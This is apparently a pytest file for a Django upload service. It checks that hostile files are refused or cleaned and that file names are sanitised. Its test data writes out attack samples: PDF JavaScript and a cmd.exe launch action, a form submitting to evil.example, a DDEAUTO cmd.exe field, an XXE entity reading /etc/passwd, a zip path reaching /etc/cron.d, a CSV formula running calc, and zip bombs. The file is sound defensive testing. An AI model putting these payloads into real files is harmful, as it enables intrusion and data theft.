"""Files that mean harm are refused, each with its message, or come in without their sting."""

import io

import pikepdf
import pytest
from django.core.files.storage import default_storage
from PIL import Image

from documents import services
from documents.cleanup import scan_waiting
from documents.files import kinds
from documents.files.names import safe_name
from documents.models import Document, DocumentType, Upload
from documents.refusals import _REFUSALS, refusal_text
from tests.documents import files
from tests.documents.files import docx, odt, package, pdf, pdf_with

pytestmark = pytest.mark.usefixtures("real_readers")
D = pikepdf.Dictionary
N = pikepdf.Name


def _attach(document):
    document.attachments["evil.exe"] = b"MZ"


def _script_at_opening(document):
    document.Root.OpenAction = D(S=N.JavaScript, JS="app.alert(1)")


def _script_in_names(document):
    action = document.make_indirect(D(S=N.JavaScript, JS="app.alert(1)"))
    document.Root.Names = D(JavaScript=D(Names=pikepdf.Array(["x", action])))


def _script_on_page(document):
    document.pages[0].AA = D(O=D(S=N.JavaScript, JS=pikepdf.Stream(document, b"app.alert(1)")))


def _launch(document):
    document.Root.OpenAction = D(S=N.Launch, F="cmd.exe")


def _submit(document):
    annotation = D(Type=N.Annot, Subtype=N.Link, A=D(S=N.SubmitForm, F="http://evil.example"))
    document.pages[0].Annots = pikepdf.Array([annotation])


def _form(document):
    document.Root.AcroForm = D(XFA=pikepdf.Stream(document, b"<xdp/>"))


def _film(document):
    document.pages[0].Annots = pikepdf.Array([D(Type=N.Annot, Subtype=N.RichMedia)])


def _encrypted():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RELS = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
_PNG = files.picture("PNG")
HOSTILE = {
    "empty": ("report.pdf", b" \n", "empty"),
    "a cut PDF": ("report.pdf", pdf()[:-400], "truncated"),
    "a cut docx": ("report.docx", docx("x" * 500)[:-300], "truncated"),
    "a cut JPEG": ("photo.jpg", files.picture()[:-300], "truncated"),
    "a cut PNG": ("photo.png", _PNG[:-30], "truncated"),
    "HTML named pdf": ("report.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "markup"),
    "HTML after spaces": ("r.txt", b"\n\n  <HTML><body onload=x>", "markup"),
    "HTML in UTF-16": ("r.txt", "<script>x</script>".encode("utf-16"), "markup"),
    "SVG with script": ("p.png", b'<svg xmlns="x"><script>alert(1)</script></svg>', "markup"),
    "XML": ("r.xml", b'<?xml version="1.0"?><a/>', "markup"),
    "a program": ("report.pdf", b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0", "unknown"),
    "a GIF": ("p.gif", b"GIF89a\1\0\1\0\0\0\0;", "unknown"),
    "old Word": ("r.doc", _OLE, "old-office"),
    "encrypted Word": ("r.docx", _OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "encrypted PDF": ("r.pdf", _encrypted(), "encrypted"),
    "encrypted odt": (
        "r.odt", odt("x", **{"META-INF/manifest.xml": "<encryption-data/>"}), "encrypted",
    ),
    "PDF: script at opening": ("r.pdf", pdf_with(_script_at_opening), "script"),
    "PDF: script in names": ("r.pdf", pdf_with(_script_in_names), "script"),
    "PDF: script on a page": ("r.pdf", pdf_with(_script_on_page), "script"),
    "PDF: launch": ("r.pdf", pdf_with(_launch), "program"),
    "PDF: sends data": ("r.pdf", pdf_with(_submit), "program"),
    "PDF: XFA": ("r.pdf", pdf_with(_form), "form"),
    "PDF: film": ("r.pdf", pdf_with(_film), "media"),
    "PDF: attachment": ("r.pdf", pdf_with(_attach), "attachment"),
    "PDF: 10^9 pages": ("r.pdf", files.page_tree_bomb(), "too-complex"),
    "PDF: deep tree": ("r.pdf", files.deep_page_tree(), "too-complex"),
    "PDF: loop": ("r.pdf", files.looping_page_tree(), "too-complex"),
    "docm": ("r.docm", docx("x", type_=_MACRO_TYPE), "macros"),
    "docm named docx": ("r.docx", docx("x", **{"word/vbaProject.bin": _OLE}), "macros"),
    "ActiveX": ("r.docx", docx("x", **{"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    "remote template": (
        "r.docx", docx("x", **{"word/_rels/settings.xml.rels": _RELS}), "remote",
    ),
    "DDE field": (
        "r.docx", docx(body="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"), "program",
    ),
    "packed program": (
        "r.docx",
        docx("x", **{"word/embeddings/oleObject1.bin": _OLE + "Ole10Native".encode("utf-16-le")}),
        "attachment",
    ),
    "entities": (
        "r.docx",
        docx("x", **{"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'}),
        "entities",
    ),
    "odt with macro": ("r.odt", odt("x", **{"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "odt with listener": (
        "r.odt", odt("x", content='<script:event-listener script:language="x"/>'), "macros",
    ),
    "zip bomb as docx": ("r.docx", files.zip_bomb, "bomb"),
    "overlapping zip": ("r.docx", files.overlapping_zip(), "bomb"),
    "zip that climbs": ("r.docx", docx("x", **{"../../etc/cron.d/x": "x"}), "paths"),
    "plain zip": ("r.zip", package({"a.txt": "a"}), "zip"),
    "PDF that is a zip": ("r.pdf", pdf() + package({"a.txt": "a"}), "polyglot"),
    "PDF after something": ("r.pdf", b"<b>hello</b>\n" + pdf(), "polyglot"),
    "PDF before HTML": ("r.pdf", pdf() + b"<script>alert(1)</script>" * 9, "polyglot"),
    "docx after a shell script": ("r.docx", b"#!/bin/sh\n" + docx("x"), "unknown"),
    "docx before HTML": ("r.docx", docx("x") + b"<script>alert(1)</script>", "polyglot"),
    "csv that starts programs": ("r.csv", b"a,b\n=cmd|'/C calc'!A0,1\n", "formula"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_its_message_and_leaves_nothing(what, take, settings):
    name, content, code = HOSTILE[what]
    # What takes long to make is made here only.
    upload = take(content() if callable(content) else content, name)
    assert (upload.state, upload.refusal) == ("refused", code)
    said = refusal_text(code, "part")
    assert len(said) > 30
    # What is wrong is one sentence, what to do another.
    assert ". " in said and said.endswith(".")
    assert _kept(settings) == []
    assert not Document.objects.exists()


def _kept(settings):
    return [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()]


def test_the_page_tree_bomb_is_about_a_kilobyte():
    assert len(files.page_tree_bomb()) < 2000


def test_every_refusal_has_words_and_is_tried():
    tried = {code for _name, _content, code in HOSTILE.values()}
    elsewhere = {"unreadable", "zip-content", "too-large", "virus", "same-version",
                 "busy", "missing-part", "too-many", "changed", "unscannable"}  # fmt: skip
    assert tried | elsewhere == set(_REFUSALS)


def test_a_stream_that_unpacks_to_3_GB_is_not_unpacked_for_good(take):
    # Only its text is looked for, within the limits of the inspector.
    assert take(files.object_stream_bomb()).state in {"refused", "draft"}


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("r.pdf", pdf(), kinds.PDF),
        ("r.docx", docx("Rapport"), kinds.DOCX),
        ("r.odt", odt("Rapport"), kinds.ODT),
        ("r.txt", "Ein Bericht – ganz normal.\n".encode(), kinds.TEXT),
        ("r.txt", "Tabelle\n".encode("utf-16"), kinds.TEXT),
        ("r.csv", b"a,b\n-1,+2\n=1+1,|x\n", kinds.CSV),
        ("photo.jpg", files.picture(), kinds.JPEG),
        ("photo.png", _PNG, kinds.PNG),
        ("photo.webp", files.picture("WEBP"), kinds.WEBP),
    ],
)
def test_a_sound_file_comes_in_as_what_it_is(name, content, kind, take):
    upload = take(content, name)
    assert (upload.state, upload.media_type, upload.refusal) == ("draft", kind, "")
    with default_storage.open(upload.stored_name) as kept:
        assert kept.size == upload.size


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_loses_place_and_camera_but_stays_upright_and_unchanged(kind, take):
    content = files.picture_with_place(kind) + b"<script>alert(1)</script>"
    upload = take(content, "photo.bin")
    assert upload.state == "draft" and upload.rewritten
    with default_storage.open(upload.stored_name) as file:
        kept = file.read()
    assert b"Secret" not in kept and b"script" not in kept
    before, after = (Image.open(io.BytesIO(data)) for data in (content, kept))
    assert before.tobytes() == after.tobytes()
    assert not after.getexif().get_ifd(0x8825)
    if kind == "JPEG":
        assert after.getexif().get(0x0112) == 6


def test_the_test_virus_is_found_and_a_clean_file_goes_on(scanned, take, settings):
    virus = take(files.EICAR, "readme.txt")
    hidden = take(docx("x", **{"word/media/note.txt": files.EICAR}), "r.docx")
    clean = take(pdf())
    assert {u.state for u in (virus, hidden, clean)} == {"draft"}
    assert scan_waiting() == 3
    for upload in (virus, hidden):
        upload.refresh_from_db()
        assert (upload.refusal, upload.detail) == ("virus", "Test-Virus.UNOFFICIAL")
    clean.refresh_from_db()
    assert clean.scanned_at
    assert len(_kept(settings)) == 1


def test_a_scanner_that_is_down_means_waiting(take, settings, tmp_path):
    settings.CLAMD_ADDRESS = str(tmp_path / "nobody")
    upload = _submit_it(take(pdf()))
    assert scan_waiting() == 0
    upload.refresh_from_db()
    assert upload.state == Upload.State.WAITING
    assert not Document.objects.exists()


def _submit_it(upload):
    return services.submit(
        upload=upload,
        title="A title",
        type=DocumentType.objects.get(code="other"),
        languages=["en"],
        document_date=None,
        publish=True,
    )


@pytest.mark.parametrize(
    ("given", "kind", "safe"),
    [
        ("../../etc/passwd", kinds.PDF, "passwd.pdf"),
        (r"C:\Users\ms secret\report.pdf", kinds.PDF, "report.pdf"),
        ("report\u202efdp.exe", kinds.PDF, "reportfdp.pdf"),
        ("re\x00po\nrt\r.pdf", kinds.PDF, "report.pdf"),
        ("a\u200b\ufeffb.docx", kinds.DOCX, "ab.docx"),
        ("Règlement n° 3 – été.pdf", kinds.PDF, "Règlement n° 3 – été.pdf"),
        ("تقرير.pdf", kinds.PDF, "تقرير.pdf"),
        ("page.html", kinds.TEXT, "page.txt"),
        ("Report v1.2", kinds.PDF, "Report v1.2.pdf"),
        ("con.pdf", kinds.PDF, "document-con.pdf"),
        ("...", kinds.PDF, "document.pdf"),
        ("x" * 400 + ".pdf", kinds.PDF, "x" * 146 + ".pdf"),
        ('a"b;c<d>.pdf', kinds.PDF, "a_b;c_d_.pdf"),
    ],
)
def test_names_are_made_safe_and_kept_readable(given, kind, safe):
    assert safe_name(given, kind) == safe
